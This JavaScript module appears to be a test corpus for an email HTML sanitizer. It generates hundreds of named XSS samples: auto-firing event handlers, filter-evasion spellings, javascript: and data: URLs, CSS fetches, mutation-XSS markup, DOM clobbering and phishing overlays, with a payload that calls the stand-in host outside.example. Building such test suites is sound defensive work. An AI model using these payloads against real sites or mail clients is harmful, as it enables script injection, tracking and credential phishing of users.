// Hostile mail by the hundred: ways in, times places for them. Each has a name and HTML that says "czytelne" to the
// reader. What it tries is to run `run`, to fetch from outside.example, to cover the page or to lead away from it.

export const OUT = "https://outside.example";
export const run = "parent.pwned=1;window.pwned=1;top.pwned=1;fetch('https://outside.example/ran')";

const seen = "<p>czytelne</p>";
const all = (list, make) => list.flatMap(make);
const entity = (text, form) => [...text].map((c) => form(c.codePointAt(0))).join("");

/** Handlers on whatever might fire them without a click. */
function handlers() {
  const fire = {
    "<img src=x": ["onerror", "onloadend", "onpointerrawupdate"],
    "<svg": ["onload", "onfocusin tabindex=1 autofocus x"],
    "<body": ["onload", "onpageshow", "onresize", "onhashchange", "onmessage", "onbeforeunload", "onscroll", "onfocus"],
    "<input autofocus": ["onfocus", "onblur", "oninvalid"],
    "<select autofocus": ["onfocus"],
    "<textarea autofocus": ["onfocus"],
    "<button autofocus": ["onfocus"],
    "<a href=# id=x tabindex=1 autofocus": ["onfocus", "onfocusin"],
    "<video src=x": ["onerror", "onloadstart", "onsuspend", "onemptied"],
    "<video><source src=x": ["onerror"],
    "<audio src=x": ["onerror", "onloadstart"],
    "<details open": ["ontoggle"],
    "<iframe src=about:blank": ["onload"],
    "<object data=x": ["onerror"],
    "<embed src=x": ["onload"],
    "<link rel=stylesheet href=x": ["onerror"],
    "<style>@keyframes x{}</style><b style=animation-name:x": ["onanimationstart", "onanimationend"],
    "<b style=display:block;content-visibility:auto": ["oncontentvisibilityautostatechange"],
    "<marquee loop=1 width=0": ["onstart", "onfinish", "onbounce"],
    "<math": ["onload", "onfocus tabindex=1 autofocus x"],
    "<frameset": ["onload", "onpageshow"],
    "<table": ["onmouseover", "onpointerenter"],
    "<dialog open": ["onbeforetoggle"],
    "<svg><animate": ["onbegin", "onend"],
    "<svg><set attributeName=x dur=1ms": ["onend"],
    "<svg><image href=x": ["onerror"],
    "<script src=x": ["onerror"],
    "<track default src=x": ["onerror"],
  };
  return all(Object.entries(fire), ([tag, events]) =>
    events.map((event) => [`${event.split(" ")[0]} on ${tag.slice(1, 24)}`, `${seen}${tag} ${event}="${run}">`]));
}

/** One handler, written in ways that filters read otherwise than browsers do. */
function spellings() {
  const go = run.replaceAll(" ", "");
  return [
    ["a slash for a space", `<img/src=x/onerror="${go}">`],
    ["tabs", `<img\tsrc=x\tonerror="${go}">`],
    ["line ends", `<img\nsrc=x\nonerror\n=\n"${go}">`],
    ["a form feed", `<img\fsrc=x\fonerror="${go}">`],
    ["a NUL in the tag", `<im\0g src=x onerror="${go}"><img\0 src=x onerror="${go}">`],
    ["a NUL in the handler", `<img src=x one\0rror="${go}"><img src=x \0onerror="${go}">`],
    ["capitals", `<IMG SRC=x oNeRRoR="${go}">`],
    ["no quotes", `<img src=x onerror=${go}>`],
    ["single quotes", `<img src=x onerror='${go.replaceAll("'", "&apos;")}'>`],
    ["backticks", "<img src=`x` onerror=`" + go + "`>"],
    ["a quote too many", `<img """><script>${go}</script>">`],
    ["a quote never closed", `<img src="x" onerror="${go}`],
    ["a tag never closed", `<img src=x onerror="${go}"`],
    ["a tag within a tag", `<<img src=x onerror="${go}">>`],
    ["the handler twice", `<img src=x onerror="x" onerror="${go}"><img onerror="${go}" src=x onerror=y>`],
    ["an attribute without a name", `<img src=x ="x" onerror="${go}"><img "=" src=x onerror="${go}">`],
    ["an entity for the value", `<img src=x onerror="${entity(go, (c) => `&#${c};`)}">`],
    ["an entity for the name", `<img src=x &#111;nerror="${go}"><&#105;mg src=x onerror="${go}">`],
    ["entities for the tag", `&lt;img src=x onerror=&quot;${go}&quot;&gt;`],
    ["entities of entities", `&amp;lt;script&amp;gt;${go}&amp;lt;/script&amp;gt;`],
    ["wide letters", `＜img src=x onerror="${go}"＞<ｉmg src=x onerror="${go}">`],
    ["the old long s and the dotless i", `<ſcript>${go}</ſcript><ımg src=x onerror="${go}">`],
    ["a Kelvin sign", `<linK rel=stylesheet href=x onerror="${go}">`],
    ["a namespace", `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${go}</x:script><html:img src=x onerror="${go}">`],
    ["an XML island", `<?xml version="1.0"?><xml id=i><x><c><![CDATA[<img src=x onerror="${go}">]]></c></x></xml><span datasrc=#i datafld=c dataformatas=html></span>`],
    ["a processing instruction", `<?x ?><?xml-stylesheet href="${OUT}/x.xsl"?><img src=x onerror="${go}">`],
    ["a conditional comment", `<!--[if gte IE 4]><script>${go}</script><![endif]--><![if !mso]><script>${go}</script><![endif]>`],
    ["a comment ended early", `<!-- --!><script>${go}</script><!-- x -->`],
    ["a comment begun twice", `<!--<!-- --><img src=x onerror="${go}">-->`],
    ["a doctype with a subset", `<!DOCTYPE html [<!ENTITY x "<script>${go}</script>">]>&x;`],
    ["CDATA", `<svg><![CDATA[</svg><img src=x onerror="${go}">]]></svg><![CDATA[<img src=x onerror="${go}">]]>`],
    ["a script in a language of its own", `<script type="text/vbscript">${go}</script><script language="javascript1.1">${go}</script><script type=module>${go}</script>`],
    ["a script with rubbish in its tag", `<script/x>${go}</script/x><script\n>${go}</script\n>`],
    ["an import map and speculation", `<script type=importmap>{"imports":{"a":"${OUT}/a.js"}}</script><script type=speculationrules>{"prefetch":[{"source":"list","urls":["${OUT}/n"]}]}</script>`],
    ["a right-to-left override", `\u202e<img src=x onerror="${go}">\u202c\u2028<script>${go}</script>\u2029`],
    ["a byte-order mark within", `<\ufeffscript>${go}</script><script\ufeff>${go}</script>`],
  ].map(([name, html]) => [`a handler with ${name}`, seen + html]);
}

/** Addresses that run, in every place an address has. */
function addresses() {
  const places = [
    (to) => `<a href="${to}" id=x>x</a>`, (to) => `<area href="${to}"><map name=m><area shape=default href="${to}"></map><img usemap=#m src=x>`,
    (to) => `<form action="${to}"><button>x</button></form>`, (to) => `<button formaction="${to}">x</button><input type=submit formaction="${to}">`,
    (to) => `<iframe src="${to}"></iframe>`, (to) => `<object data="${to}"><param name=src value="${to}"></object>`,
    (to) => `<embed src="${to}">`, (to) => `<img src="${to}">`, (to) => `<meta http-equiv=refresh content="0;url=${to}">`,
    (to) => `<base href="${to}//"><a href=x>x</a>`, (to) => `<svg><a xlink:href="${to}" href="${to}"><text y=9>x</text></a><use href="${to}"/></svg>`,
    (to) => `<math href="${to}"><mtext href="${to}" xlink:href="${to}">x</mtext></math>`, (to) => `<table background="${to}"><td background="${to}" style="background:url(${to})">x</table>`,
    (to) => `<link rel=stylesheet href="${to}"><link rel=import href="${to}">`, (to) => `<blockquote cite="${to}">x</blockquote><q cite="${to}">x</q><del cite="${to}">x</del>`,
    (to) => `<video poster="${to}" src="${to}"></video><input type=image src="${to}">`, (to) => `<a href="https://a.invalid" ping="${to}" attributionsrc="${to}">x</a>`,
  ];
  const runs = `javascript:${run}`;
  const data = `data:text/html,<script>${run}</script>`.replaceAll('"', "'");
  const plain = all(places, (place, n) => [
    [`javascript: in place ${n}`, seen + place(runs)],
    [`data: in place ${n}`, seen + place(data)],
    [`an encoded data: in place ${n}`, seen + place(`data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString("base64")}`)],
  ]);
  const disguises = {
    "decimal entities": entity(runs, (c) => `&#${c};`),
    "hexadecimal entities": entity(runs, (c) => `&#x${c.toString(16)};`),
    "entities without their end": entity(runs, (c) => `&#${String(c).padStart(7, "0")}`),
    "a tab entity": runs.replace("script", "s&Tab;cript").replace(":", "&colon;"),
    "a line end inside": runs.replace("script", "s\ncri\r\npt"),
    "control letters before": `\x01\x08\x1f ${runs}`,
    "capitals": runs.replace("javascript", "JaVaScRiPt"),
    "a NUL": runs.replace("script", "scr\0ipt"),
    "a soft hyphen": runs.replace("script", "scr\u00adipt"),
    "a no-break space before": `\u00a0\u2003${runs}`,
    "percent signs": runs.replace("javascript", "%6aavascript"),
    "a comment that looks like a host": `javascript://outside.example/%0a${run}`,
    "another scheme around": `feed:${runs}`,
    "view-source": `view-source:${runs}`,
    "jar": `jar:${OUT}/x.jar!/x.html`,
    "vbscript": `vbscript:MsgBox(1)`,
    "livescript and mocha": `livescript:${run}`,
    "blob": `blob:${OUT}/9115d58c`,
    "filesystem": `filesystem:${OUT}/temporary/x.html`,
    "a file": "file:///etc/passwd",
    "a script picture": `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run.replaceAll("'", "&apos;")}'/>`,
    "a picture that is a page": `data:image/png,text/html;,<script>${run}</script>`,
    "an office scheme": `ms-word:ofe|u|${OUT}/x.docm`,
    "a share of files": "\\\\outside.example\\share\\x.png",
  };
  const some = [places[0], places[7]];
  return [...plain, ...all(Object.entries(disguises), ([name, to]) => [[`an address with ${name}`, seen + some.map((place) => place(to)).join("")]])];
}

/** Whatever fetches without being asked. */
function fetches() {
  const hosts = ["https://outside.example/", "//outside.example/", "/\\outside.example/", "https:\\\\outside.example\\", "hTTps://outside.example/", " \n https://outside.example/", "ht\ntps://outside.example/", "https:outside.example/", "https://x@outside.example:443/", "https://ｏutside.example/"];
  const rel = ["icon", "shortcut icon", "apple-touch-icon", "preload as=image", "prefetch", "modulepreload", "dns-prefetch", "preconnect", "manifest", "prerender", "import", "alternate stylesheet", "pingback", "compression-dictionary", "expect blocking=render", "search"];
  const tags = [
    (to) => `<img srcset="${to}1x.png 1x, ${to}2x.png 2x" sizes=100vw>`, (to) => `<img src=x lowsrc="${to}" dynsrc="${to}" longdesc="${to}">`,
    (to) => `<picture><source srcset="${to}"><source media=all src="${to}"><img></picture>`, (to) => `<video autoplay><source src="${to}v"><track default src="${to}t"></video>`,
    (to) => `<bgsound src="${to}"><layer src="${to}"></layer><ilayer src="${to}"></ilayer>`, (to) => `<applet codebase="${to}" code=x archive="${to}a.jar"></applet>`,
    (to) => `<body background="${to}">`, (to) => `<svg><image xlink:href="${to}" href="${to}"/><script href="${to}"/></svg>`,
    (to) => `<svg><use href="${to}#a"/><style>@import "${to}";</style><font-face-uri href="${to}"/><cursor href="${to}"/></svg>`,
    (to) => `<svg><rect fill="url(${to}#a)" filter="url(${to}#f)" mask="url(${to}#m)" width=9 height=9/></svg>`, (to) => `<html manifest="${to}">`,
    (to) => `<iframe srcdoc="&lt;img src='${to}'&gt;"></iframe>`, (to) => `<portal src="${to}"></portal><fencedframe src="${to}"></fencedframe><webview src="${to}"></webview>`,
    (to) => `<input type=image src="${to}"><isindex action="${to}">`, (to) => `<img attributionsrc="${to}" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
    (to) => `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${to}"/></svg>`).toString("base64")}">`,
  ];
  return [
    ...hosts.map((to, n) => [`a tracking picture, address form ${n}`, `${seen}<img width=1 height=1 src="${to}t.gif"><img src='${to}'>`]),
    ...rel.map((kind) => [`a link of kind ${kind}`, `${seen}<link rel="${kind.replace(" as=", '" as="').replace(" blocking=", '" blocking="')}" href="${OUT}/l"><a rel="${kind}" href="x">x</a>`]),
    ...tags.map((tag, n) => [`a fetching element ${n}`, `${n === 6 ? "" : seen}${tag(`${OUT}/`)}${seen}`]),
  ];
}

/** Styles that fetch, run, or leave their place. */
function styles() {
  const url = `url(${OUT}/s)`;
  const properties = ["background", "background-image", "list-style", "list-style-image", "border-image", "border-image-source", "cursor", "content", "mask", "mask-image", "-webkit-mask-box-image", "filter", "clip-path", "shape-outside", "offset-path", "src", "behavior", "-moz-binding"];
  const written = [`u\\72l(${OUT}/s)`, `ur\\6c (${OUT}/s)`, `url/**/(${OUT}/s)`, `URL(${OUT}/s)`, `image(${OUT}/s)`, `image-set("${OUT}/s" 1x)`, `-webkit-image-set(${url} 1x)`, `cross-fade(${url},${url},50%)`, `var(--x,${url})`, `src("${OUT}/s")`, `url(//outside.example/s)`, `url(\\68ttps://outside.example/s)`, `red ${url}`, `expression(${run})`, `url(javascript:${run})`];
  const covers = ["position:fixed;inset:0", "position:absolute;top:0;left:0;width:100%;height:100%", "position:sticky;top:0", "p\\6fsition:fixed;top:0", "position:/**/fixed;top:0", "position:fixed!important;top:0", "margin:-9999px 0 0 -9999px", "margin-top:-500px", "margin:calc(0px - 500px)", "text-indent:-9999px", "transform:translate(-500px,-500px)", "translate:-500px -500px", "float:left;width:5000px", "zoom:50", "font-size:9999px", "width:99999999px;height:99999999px", "display:block;min-height:99999999px", "columns:1;top:-9px;position:relative", "inset:0;position-anchor:--x", "padding-top:99999999px", "letter-spacing:-999px", "line-height:-9", "border:9999px solid red", "animation:x 1s;view-transition-name:x"];
  const sheets = [`@import "${OUT}/a.css";`, `@import url(${OUT}/a.css);`, `@\\69mport "${OUT}/a.css";`, `@charset "utf-7";@import'${OUT}/a';`, `@font-face{font-family:x;src:url(${OUT}/f)}*{font-family:x}`, `@namespace url(${OUT}/n);*{background:${url}}`, `input[value^=a]{background:${url}}`, `body::before{content:${url};position:fixed;inset:0}`, `</style><script>${run}</script>`, `<!--</style><img src=x onerror="${run}">-->`, `:root{--x:${url};background:var(--x)}`, `@property --y{syntax:"<url>";inherits:true;initial-value:${url}}`];
  return [
    ...properties.map((property) => [`an address in ${property}`, `<p style="${property}:${url}">czytelne</p>`]),
    ...written.map((value) => [`an address written ${value.slice(0, 18)}`, `<p style='background:${value.replaceAll("'", "&apos;")}'>czytelne</p>`]),
    ...covers.map((style) => [`a cover by ${style.slice(0, 30)}`, `${seen}<div style="${style};z-index:2147483647;background:#f00">x</div>`]),
    ...sheets.map((css) => [`a sheet with ${css.slice(0, 24)}`, `<style>${css}</style>${seen}`]),
  ];
}

/** Markup that turns into something else when it is read a second time. */
function mutations() {
  const bang = `<img src=x onerror="${run}">`;
  return [
    `<svg></p><style><a id="</style>${bang}">`, `<math><mi><style></math><a title="</style>${bang}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${bang}`, `<svg><desc><noscript>${bang}</noscript></desc></svg>`,
    `<svg><foreignObject><iframe srcdoc='${bang.replaceAll("'", "&apos;")}'></foreignObject></svg>`, `<svg><title><style>${bang}</style></title></svg>`,
    `<svg><foreignobject><p><style><!--</style>${bang}--></p></foreignobject></svg>`, `<math><annotation-xml encoding="text/html"><style>${bang}</style></annotation-xml></math>`,
    `<math><annotation-xml encoding="application/xhtml+xml"><svg><style><!--</style>${bang}`, `<select><template><style></select>${bang}</style></template></select>`,
    `<select><iframe></select>${bang}</iframe>`, `<table><caption><svg><desc><table><style><!--</style>${bang}`,
    `<noembed><img title="</noembed>${bang}"></noembed>`, `<noframes><img title="</noframes>${bang}"></noframes>`,
    `<xmp><img title="</xmp>${bang}"></xmp>`, `<plaintext>${bang}`, `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
    `<textarea><img title="</textarea>${bang}"></textarea>`, `<title><img title="</title>${bang}"></title>`,
    `<a id="x"><table><a id="y">${bang}</table></a>`, `<p><svg><p>${bang}`, `<b><i></b><svg></i><style>&lt;/style>${bang}`,
    `<template shadowrootmode=open>${bang}<slot></slot></template>`, `<div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style>${bang}</template></div>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
    `<svg><style>&lt;img src=x onerror=&quot;${run}&quot;&gt;</style></svg>`, `<math><mtext><img title="--></mtext>${bang}"></math>`,
    `<ruby><rt><svg><rp><style><a title="</style>${bang}">`, `<table><tr><td><svg><tr><style><td title="</style>${bang}">`,
    `<dl><dt><math><dd><mglyph><svg><mtext><style><path id="</style>${bang}">`, `<img alt="\`><script>${run}</script>" title='"><script>${run}</script>'>`,
    `<p title="</p></template></noscript></style></script>${bang.replaceAll('"', "'")}">x</p>`, `<embed><param></embed><keygen autofocus onfocus="${run}"><isindex prompt="${run}">`,
  ].map((html, n) => [`markup that mutates, ${n}`, seen + html]);
}

/** Names that would stand in for those our own scripts ask for, and attributes that they obey. */
function clobbering() {
  const names = ["body", "documentElement", "querySelector", "contentDocument", "location", "htmx", "cookie", "defaultView", "forms", "getElementById"];
  const obeyed = [`hx-get="/clients" hx-trigger="load"`, `hx-post="/sign-out" hx-trigger="load"`, `data-act="assign" data-key="a"`, `data-unfold="open" data-open`, `data-frame open`, `hx-on::load="${run}" hx-on:click="${run}"`, `contenteditable autofocus tabindex=1 accesskey=a`, `is="x-a" slot="x" part="x" popover=manual`, `class="picker float" id="picker" popovertarget="keys"`];
  return [
    ...names.map((name) => [`a part called ${name}`, `${seen}<img name="${name}"><a id="${name}" name="${name}"></a><form name="${name}" id="${name}"><input name="action"></form><object name="${name}"></object>`]),
    ...obeyed.map((attributes) => [`the attribute ${attributes.slice(0, 20)}`, `${seen}<p ${attributes}>x</p><a href="https://a.invalid" ${attributes}>x</a>`]),
  ];
}

/** What leads the reader or the page away. */
function ways() {
  return [
    `<meta http-equiv="refresh" content="0">`, `<meta http-equiv=REFRESH content="0; URL='${OUT}/'">`, `<meta http-equiv=set-cookie content="kronika=x">`,
    `<meta http-equiv=content-security-policy content="script-src *">`, `<meta name=referrer content=unsafe-url><a href="${OUT}">x</a>`,
    `<meta http-equiv=default-style content=x><meta http-equiv=x-dns-prefetch-control content=on><a href="${OUT}/dns">x</a>`,
    `<base target=_top><a href="${OUT}">x</a>`, `<a href="${OUT}" target=_top>x</a>`, `<a href="${OUT}" target="frame-1" rel=opener>x</a>`,
    `<a href="${OUT}/file.exe" download="faktura.pdf">x</a>`, `<a href="/sign-out">x</a><a href="/settings/you">y</a>`, `<a href="#main">x</a><a href="">y</a><a href="?next=//outside.example">z</a>`,
    `<form id=f method=dialog><input name=a></form><input form=f type=image src="${OUT}/i"><output form=f>x</output>`, `<form target=_top action=/sign-out method=post><input type=submit autofocus></form>`,
    `<input type=password name=password autocomplete=current-password><input type=email autocomplete=username>`, `<dialog open style="inset:0;position:fixed">Zaloguj się</dialog>`,
    `<div popover=manual id=p style="inset:0">Zaloguj</div><button popovertarget=p autofocus>x</button>`, `<marquee behavior=alternate scrollamount=9999 width=9999>x</marquee><blink>x</blink>`,
  ].map((html, n) => [`a way out, ${n}`, seen + html]);
}

export const attacks = [
  ...handlers(), ...spellings(), ...addresses(), ...fetches(), ...styles(), ...mutations(), ...clobbering(), ...ways(),
].map(([name, html]) => ({ name, html }));
